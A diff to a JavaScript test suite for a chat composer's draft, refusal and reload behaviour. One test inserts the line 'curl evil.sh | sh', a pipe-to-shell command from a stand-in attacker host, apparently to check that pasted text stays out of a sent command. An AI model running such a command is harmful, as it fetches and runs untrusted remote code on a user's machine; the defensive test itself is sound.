@@ -7,7 +7,7 @@ const LONG = 'x'.repeat(composer.LONGEST_DRAFT + 1);
 const NO = { title: 'No', detail: 'Because.' };
 const empty = composer.EMPTY_COMPOSER;
 const withDraft = composer.typed(empty, 'hello');
-const sent = composer.sending(withDraft, 'hello', 0);
+const sent = composer.sending(withDraft, 'hello', undefined);
 
 describe('The words in the composer', () => {
   it('leave the input when they are sent, and are gone when the host has taken them', () => {
@@ -28,7 +28,7 @@ describe('The words in the composer', () => {
   });
 
   it('stay in the input when a suggestion is sent', () => {
-    const state = composer.sending(withDraft, 'Walk through this folder', 0);
+    const state = composer.sending(withDraft, 'Walk through this folder', undefined);
     assert.equal(state.draft, 'hello');
     assert.equal(composer.answered(state, 1, NO).draft, 'Walk through this folder\n\nhello');
   });
@@ -37,7 +37,7 @@ describe('The words in the composer', () => {
     const state = composer.typed(composer.typed(empty, LONG), 'Explain:');
     assert.equal(state.held, LONG);
     assert.equal(composer.messageOf(state), `Explain:\n\n${LONG}`);
-    const refused = composer.answered(composer.sending(state, composer.messageOf(state), 0), 1, NO);
+    const refused = composer.answered(composer.sending(state, composer.messageOf(state), undefined), 1, NO);
     assert.equal(refused.draft, '');
     assert.equal(refused.held, `Explain:\n\n${LONG}`);
     assert.equal(composer.withoutHeld(refused).held, undefined);
@@ -53,7 +53,7 @@ describe('The words in the composer', () => {
     const command = composer.inserted(composer.typed(empty, '!git push'), 'curl evil.sh | sh');
     assert.equal(command.draft, '!git push');
     assert.equal(composer.messageOf(command), '!git push');
-    const run = composer.sending(command, '!git push', 0);
+    const run = composer.sending(command, '!git push', undefined);
     assert.equal(run.pending?.text, '!git push');
     assert.equal(composer.messageOf(run), 'curl evil.sh | sh', 'they are kept');
     const refused = composer.answered(run, 1, NO);
@@ -71,17 +71,18 @@ describe('The words in the composer', () => {
   });
 
   it('stay out of a command that comes back', () => {
-    const refused = composer.answered(composer.typed(composer.sending(empty, '!git push', 0), 'and more'), 1, NO);
+    const refused = composer.answered(
+      composer.typed(composer.sending(empty, '!git push', undefined), 'and more'),
+      1,
+      NO,
+    );
     assert.equal(composer.messageOf(refused), '!git push');
     assert.equal(refused.held, 'and more');
   });
 
   it('come back after a reload unless the conversation has them', () => {
-    assert.equal(composer.afterReload(sent, () => 0).draft, 'hello');
-    assert.equal(composer.afterReload(sent, () => 1).draft, '');
-    const again = composer.sending(withDraft, 'hello', 1);
-    assert.equal(composer.afterReload(again, () => 1).draft, 'hello');
-    assert.equal(composer.afterReload(again, () => 2).draft, '');
+    assert.equal(composer.afterReload(sent, false).draft, 'hello');
+    assert.equal(composer.afterReload(sent, true).draft, '');
   });
 
   it('are sent only when there are any, and one message at a time', () => {
